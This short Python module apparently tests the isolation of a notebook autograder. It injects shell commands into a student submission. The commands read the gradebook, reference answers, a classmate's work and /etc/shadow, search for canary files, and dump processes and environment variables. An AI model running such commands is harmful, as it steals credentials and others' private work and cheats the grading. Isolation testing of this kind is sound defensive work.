"""Asks the shell for what Python does not get."""

from submissions import with_extra

NOTEBOOK = "5_posiciones"
MARKS = {}
STATUS = "graded"
ABSENT = "SEES THE COURSE\n"
EXTRA = '''
!cat "{GRADEBOOK}" "{REFERENCE}" "{CLASSMATE}" /etc/shadow
!grep -rl canary- /home /root /var /srv /mnt /opt 2>/dev/null
!ls -la "{COURSE}" && echo SEES THE COURSE
!ps aux
!env
'''


def change(notebook):
    return with_extra(notebook, EXTRA)
